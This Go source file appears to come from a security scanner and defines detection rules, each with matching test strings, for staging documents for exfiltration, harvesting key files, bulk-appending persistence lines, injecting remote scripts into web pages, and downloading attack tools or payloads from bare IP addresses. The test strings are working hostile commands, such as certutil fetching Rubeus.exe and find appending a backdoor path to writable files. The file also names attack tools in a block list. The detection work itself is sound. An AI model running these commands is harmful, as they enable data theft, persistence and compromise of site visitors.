package commands

import (
	"regexp"
	"strings"

	"github.com/picketsec/picket/sdk"
)

// Script checks that join calls of one text: documents gathered by type
// across a profile and then packed into an archive, and a search for many
// kinds of key file at once. A catalogue row sees one call; these effects
// are two calls, or a loop whose list holds what the search looks for.

var collectArchive = &rule{
	ID: "collect-then-archive", Class: "exfiltration", Sev: high,
	Msg: "gathers documents of several types across a user profile, home or drive and packs them into an archive (staging for exfiltration, ATT&CK T1119, T1560)",
	Must: []string{
		"$d = Get-ChildItem -Path $env:USERPROFILE -Recurse -Include *.docx,*.xlsx,*.pdf | Select -ExpandProperty FullName; Compress-Archive -LiteralPath $d -DestinationPath $env:TEMP\\u.zip",
		"find /home -name '*.pdf' -o -name '*.docx' -o -name '*.xlsx' | zip -@ /tmp/d.zip",
		"dir C:\\Users\\bob /s /b *.doc *.xls *.pdf > l.txt & 7z a -pX C:\\ProgramData\\d.7z @l.txt",
	},
	MustNot: []string{
		"Get-ChildItem -Path .\\reports -Include *.docx,*.xlsx,*.pdf -Recurse | Compress-Archive -DestinationPath .\\out\\reports.zip",
		"Get-ChildItem -Path $env:USERPROFILE -Include *.docx,*.xlsx,*.pdf -Recurse",
		"Compress-Archive -Path .\\site\\public -DestinationPath .\\dist\\site-v2.zip",
	},
}

var keyHarvest = &rule{
	ID: "key-file-harvest", Class: "credential access", Sev: high,
	Msg: "searches the file system for many kinds of private key, certificate and password-store files at once (ATT&CK T1552.004)",
	Must: []string{
		"for x in .pem .key .ppk .p12 .pfx; do find / -name \"*$x\" 2>/dev/null; done",
		"Get-ChildItem C:\\ -Recurse -Include *.pfx,*.p12,*.ppk,*.kdbx -ErrorAction SilentlyContinue",
		"dir C:\\Users /s /b *.ppk *.pem *.kdbx *.pfx",
		"locate -r '\\.\\(pem\\|ppk\\|kdbx\\|jks\\)$'",
	},
	MustNot: []string{
		"find /etc/ssl -name '*.pem' -o -name '*.key'",
		"Get-ChildItem -Recurse -Include *.cs,*.csproj,*.json,*.xml",
		"echo 'pem, key, ppk and pfx (.pem .key .ppk .pfx) are key formats'",
	},
}

var findAppend = &rule{
	ID: "find-exec-append", Class: "persistence", Sev: high,
	Msg: "appends text to every file a search across the system finds (writable scripts and configuration files hijacked in bulk, ATT&CK T1574, T1546.004)",
	Must: []string{
		"find / -type f -perm -o+w -exec sh -c 'echo \"/var/tmp/.u &\" >> \"{}\"' \\;",
		"find /etc /usr/local/bin -writable -name '*.sh' -exec sh -c 'echo /var/tmp/.u >> {}' \\;",
		"find /opt -type f -writable -exec sh -c 'echo /var/tmp/.u >> \"$1\"' _ {} \\;",
	},
	MustNot: []string{
		"find . -name '*.md' -exec sh -c 'echo \"\" >> \"{}\"' \\;",
		"find / -perm -o+w -type f 2>/dev/null",
	},
}

var webInject = &rule{
	ID: "web-page-script-inject", Class: "initial access", Sev: high,
	Msg: "adds a script or frame loaded over plain HTTP or from a bare address to a page a web server serves (a drive-by compromise of the site's visitors, ATT&CK T1189)",
	Must: []string{
		"echo '<script src=\"http://198.51.100.4/c.js\"></script>' >> /var/www/html/index.html",
		"Add-Content C:\\inetpub\\wwwroot\\default.htm '<iframe src=\"https://198.51.100.5/x\" width=0 height=0></iframe>'",
	},
	MustNot: []string{
		"echo '<script src=\"/static/app.js\"></script>' >> /var/www/html/index.html",
		"echo '<script src=\"https://cdn.example.org/lib.js\"></script>' >> ./public/index.html",
		"echo '<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-1\"></script>' >> /var/www/html/index.html",
	},
}

var attackToolFetch = &rule{
	ID: "attack-tool-fetch", Class: "download and execute", Sev: high,
	Msg: "downloads a post-exploitation tool by its name (credential dumpers, privilege-escalation scanners, Active Directory attack kits; ATT&CK T1105, T1588.002)",
	Must: []string{
		"curl -sLO https://github.com/example/mimikatz/releases/download/2.2.0/mimikatz_trunk.zip",
		"wget -q http://198.51.100.7/tools/linpeas.sh -O /dev/shm/l.sh",
		"Invoke-WebRequest -Uri https://example.org/a/winPEASx64.exe -OutFile $env:TEMP\\w.exe",
		"certutil -urlcache -f http://198.51.100.8/Rubeus.exe C:\\Users\\Public\\r.exe",
	},
	MustNot: []string{
		"curl -LO https://github.com/jqlang/jq/releases/download/jq-1.7.1/jq-linux-amd64",
		"wget https://example.org/docs/detecting-mimikatz.pdf",
		"git clone https://github.com/example/sigma-rules-for-lazagne-detection",
	},
}

var bareIPPayload = &rule{
	ID: "bare-ip-payload-fetch", Class: "download and execute", Sev: high,
	Msg: "downloads a program or script (an .exe, .dll, .hta, .vbs, .ps1, .sh …) from a bare public address (ATT&CK T1105)",
	Must: []string{
		"curl --output upd.hta \"https://198.51.100.60/u/upd.hta\"",
		"wget -q http://203.0.113.61:8080/x.sh",
		"Invoke-WebRequest http://198.51.100.62/a.ps1 -OutFile a.ps1",
	},
	MustNot: []string{
		"curl -o setup.exe http://10.0.0.5/setup.exe",
		"curl -O https://downloads.example.org/tool/v2/tool.exe",
		"curl -s http://198.51.100.63/status.json",
	},
}

// scriptRules are the checks of this file, for the example test and the
// list of rule ids.
var scriptRules = []*rule{collectArchive, keyHarvest, findAppend, webInject, attackToolFetch, bareIPPayload}

// payloadExtRe are the file types Windows runs by opening them, or a
// script host or shell runs.
var payloadExtRe = regexp.MustCompile(`\.(exe|dll|scr|cpl|msi|hta|vbs|vbe|js|jse|wsf|wsh|ps1|psm1|bat|cmd|lnk|sh)$`)

// publicIPURL reports whether a URL's host is an IPv4 address outside the
// private, loopback and link-local ranges.
func publicIPURL(u string) bool {
	h := urlHost(u)
	if i := strings.LastIndexByte(h, ':'); i >= 0 {
		h = h[:i]
	}
	var o [4]int
	parts := strings.Split(h, ".")
	if len(parts) != 4 {
		return false
	}
	for i, p := range parts {
		if p == "" || len(p) > 3 {
			return false
		}
		n := 0
		for _, r := range p {
			if r < '0' || r > '9' {
				return false
			}
			n = n*10 + int(r-'0')
		}
		if n > 255 {
			return false
		}
		o[i] = n
	}
	switch {
	case o[0] == 10, o[0] == 127, o[0] == 0, o[0] == 169 && o[1] == 254, o[0] == 172 && o[1] >= 16 && o[1] < 32, o[0] == 192 && o[1] == 168:
		return false
	}
	return true
}

// fetchesPayload reports a URL to a bare public address whose path ends
// in a program or script.
func fetchesPayload(u string) bool {
	if !publicIPURL(u) {
		return false
	}
	l := asciiLower(u)
	if i := strings.IndexAny(l, "?#"); i >= 0 {
		l = l[:i]
	}
	return payloadExtRe.MatchString(strings.TrimRight(l, "\"'"))
}

// attackTools are post-exploitation tools that have no use but attack,
// as their releases and scripts are named (a download of one is the
// first step of using it).
var attackTools = set("mimikatz", "invoke-mimikatz", "safetykatz", "pypykatz", "nanodump", "lazagne", "mimipenguin", "winpwn",
	"powersploit", "powerview", "nishang", "rubeus", "sharphound", "sharpup", "sharpdpapi",
	"kerbrute", "inveigh", "invoke-inveigh", "crackmapexec", "netexec", "evil-winrm", "pwncat", "weevely",
	"linpeas", "winpeas", "pspy", "pspy32", "pspy64", "linenum", "linux-exploit-suggester", "juicypotato", "printspoofer",
	"godpotato", "roguepotato", "sweetpotato")

var (
	toolSuffixRe = regexp.MustCompile(`^([-_.]?(x64|x86|any|ofs|trunk|master|main|obfuscated|\d+))*$`)
	toolExtRe    = regexp.MustCompile(`(\.(ps1|psm1|exe|dll|zip|7z|rar|sh|py|pl|tar|gz|tgz|bat|txt))+$`)
	fetchInvs    = set("curl", "wget", "invoke-webrequest", "invoke-restmethod", "start-bitstransfer", "bitsadmin", "certutil", "aria2c",
		".downloadfile", ".downloadstring", ".downloaddata", "axel", "fetch")
)

// namesAttackTool reports whether a URL's path names an attack tool: a
// segment that is the tool's name, with an architecture, version or
// archive suffix at most.
func namesAttackTool(u string) bool {
	l := asciiLower(u)
	if i := strings.Index(l, "://"); i >= 0 {
		l = l[i+3:]
	}
	if i := strings.IndexAny(l, "?#"); i >= 0 {
		l = l[:i]
	}
	segs := strings.Split(l, "/")
	for _, sg := range segs[1:] { // not the host
		sg = toolExtRe.ReplaceAllString(sg, "")
		for n := len(sg); n >= 4; n-- {
			if attackTools[sg[:n]] && toolSuffixRe.MatchString(sg[n:]) {
				return true
			}
		}
	}
	return false
}

var (
	docExtRe = regexp.MustCompile(`\.(docx?|docm|xlsx?|xlsm|pptx?|pdf|pst|ost|odt|ods|odp|rtf|eml|msg|kdbx)\b`)
	keyExtRe = regexp.MustCompile(`(?:^|[\s*"'\\(,{|])\.(key|pem|ppk|p12|pfx|pgp|gpg|asc|kdbx|jks|keystore|ovpn|kirbi)\b`)
	// keyWordRe are the extensions that are no English word, counted
	// however the search spells them (a regular expression's alternation,
	// a loop's word list).
	keyWordRe = regexp.MustCompile(`\b(pem|ppk|p12|pfx|kdbx|jks|keystore|ovpn|kirbi)\b`)
	// profileScopeRe is where a user's documents are: a home or profile
	// folder, every profile, or a whole drive.
	profileScopeRe = regexp.MustCompile(`(^|\s|")(\$env:userprofile|\$\{env:userprofile\}|%userprofile%|\$home\b|~/?(\s|"|$)|\$home/?(\s|"|$)|[a-z]:\\users\b|/home\b|/users\b|[a-z]:\\?(\s|"|$)|/(\s|"|$))`)
)

var searchers = set("get-childitem", "gci", "dir", "ls", "where", "findstr", "forfiles", "robocopy", "xcopy", "find", "locate", "mdfind", "fd")

// archives reports whether an invocation creates an archive.
func archives(in inv) bool {
	first := ""
	if len(in.args) > 0 {
		first = asciiLower(in.args[0])
	}
	switch in.name {
	case "compress-archive", "zip", "makecab":
		return true
	case "rar", "winrar", "7z", "7za", "7zr":
		return first == "a"
	case "tar", "bsdtar":
		if len(in.args) > 0 && !strings.HasPrefix(in.args[0], "-") && strings.ContainsRune(in.args[0], 'c') {
			return true // bundled flags without a dash: tar czf out.tgz …
		}
		for _, a := range in.args {
			if a == "--create" || len(a) > 1 && a[0] == '-' && a[1] != '-' && strings.ContainsRune(a, 'c') {
				return true
			}
		}
	}
	return false
}

// scriptChecks runs the checks of this file over an analysis.
func scriptChecks(a *analysis, put func(r *rule, sev sdk.Severity, s, e int)) {
	ins := a.invocations()
	var coll, arch *inv
	search := false
	for i := range ins {
		in := &ins[i]
		if searchers[in.name] {
			search = true
			if coll == nil {
				j := asciiLower(strings.Join(in.args, " "))
				if distinct(docExtRe, j, 1) >= 3 && profileScopeRe.MatchString(j) {
					coll = in
				}
			}
		}
		if arch == nil && archives(*in) {
			arch = in
		}
	}
	if coll != nil && arch != nil {
		s, e := coll.start, arch.end
		if arch.start < s {
			s = arch.start
		}
		if coll.end > e {
			e = coll.end
		}
		put(collectArchive, 0, s, e)
	}
	l := asciiLower(a.text)
	if search && mayHarvestKeys(l) && (distinct(keyExtRe, l, 1) >= 4 || distinct(keyWordRe, l, 1) >= 4) {
		put(keyHarvest, 0, 0, len(a.text))
	}
	for i := range ins {
		in := &ins[i]
		if !fetchInvs[in.name] {
			continue
		}
		for _, x := range in.args {
			if !strings.Contains(x, "://") {
				continue
			}
			u := urlRe.FindString(x)
			if u == "" {
				continue
			}
			if namesAttackTool(u) {
				put(attackToolFetch, 0, in.start, in.end)
			}
			if fetchesPayload(u) {
				put(bareIPPayload, 0, in.start, in.end)
			}
		}
	}
	for _, c := range a.calls {
		if c.name == "find" && findAppends(c) {
			put(findAppend, 0, c.start, c.end)
			break
		}
	}
	if strings.Contains(l, "src") && remoteScriptRe.MatchString(l) && webRootWriteRe.MatchString(l) {
		put(webInject, 0, 0, len(a.text))
	}
}

var (
	remoteScriptRe  = regexp.MustCompile(`(?s)<(script|iframe)\b.{0,400}?\bsrc\s*=\s*\(?\s*\\?['"]?(http://|https://\d{1,3}(\.\d{1,3}){3}[:/'"])`)
	webRootWriteRe  = regexp.MustCompile(`(>>?|\btee\s+(-a\s+)?|\badd-content\s+(-path\s+)?|\bset-content\s+(-path\s+)?|\bout-file\s+(-append\s+)?(-filepath\s+)?)\s*['"]?(/var/www/|/usr/share/nginx/html/|/srv/(www|http)/|c:\\+inetpub\\+wwwroot\\)`)
	appendToFoundRe = regexp.MustCompile(`(>>|\btee\s+-a)\s*\\?['"]?(\{\}|\$\{?[01@]\b)`)
)

// findAppends reports a find that searches the system (from /, a system
// or home folder, or for files anyone may write) and runs a shell that
// appends to each file it finds.
func findAppends(c *call) bool {
	j := strings.Join(c.args(), " ")
	if !strings.Contains(j, "{}") || !appendToFoundRe.MatchString(j) {
		return false
	}
	for _, a := range c.args() {
		switch {
		case a == "-writable", a == "-perm" && strings.Contains(j, "-perm -"), a == "/", a == "~", a == "/home", a == "/Users":
			return true
		case strings.HasPrefix(a, "/") && isSystemPath(a):
			return true
		}
	}
	return false
}

// keyExts are the extensions keyExtRe and keyWordRe count.
var keyExts = []string{"pem", "ppk", "p12", "pfx", "kdbx", "jks", "keystore", "ovpn", "kirbi", "pgp", "gpg", "asc", "key"}

// mayHarvestKeys is the cheap test before the regular expressions: four
// of the extensions occur somewhere in the text.
func mayHarvestKeys(l string) bool {
	n := 0
	for _, e := range keyExts {
		if strings.Contains(l, e) {
			if n++; n >= 4 {
				return true
			}
		}
	}
	return false
}

// distinct counts the different values of group g of re in s.
func distinct(re *regexp.Regexp, s string, g int) int {
	seen := map[string]bool{}
	for _, m := range re.FindAllStringSubmatch(s, -1) {
		seen[m[g]] = true
	}
	return len(seen)
}
